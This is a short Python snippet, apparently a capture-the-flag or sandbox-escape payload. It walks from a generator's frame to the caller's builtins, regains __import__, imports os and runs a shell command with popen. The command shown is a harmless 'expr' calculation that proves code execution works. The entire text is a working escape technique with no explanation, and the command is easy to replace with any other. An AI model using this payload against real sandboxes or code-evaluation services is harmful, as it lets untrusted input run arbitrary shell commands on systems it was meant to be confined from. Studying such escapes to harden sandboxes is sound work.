g=(g.gi_frame.f_back.f_builtins for _ in [0])
print(next(g)["__import__"]("os").popen("expr 40 + 1001").read())
